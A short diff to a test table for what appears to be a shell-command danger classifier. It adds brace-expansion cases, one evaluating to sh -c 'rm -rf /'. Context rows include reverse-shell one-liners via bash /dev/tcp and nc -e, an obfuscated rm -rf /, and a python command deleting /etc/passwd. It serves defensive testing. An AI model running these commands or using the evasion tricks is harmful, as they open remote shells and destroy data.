@@ -125,6 +125,8 @@ TABLE: list[tuple[str, Danger, str | None]] = [
     ("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", ASK, "DG305"),
     ("nc -e /bin/sh 10.0.0.1 4242", ASK, "DG305"),
     ("${0/x/r}m -rf /", ASK, "DG306"),
+    ("{ls,-la}", ASK, "DG310"),  # a brace list in command position: tree-sitter cannot read it
+    ("{sh,-c,'rm -rf /'}", HARD, "DG101"),  # evaluated: sh -c 'rm -rf /'
     ("python -c \"print('ok')\"", NONE, None),
     ('node -e "console.log(1)"', NONE, None),
     ("python3 -c \"import os; os.remove('/etc/passwd')\"", ASK, "DG103"),
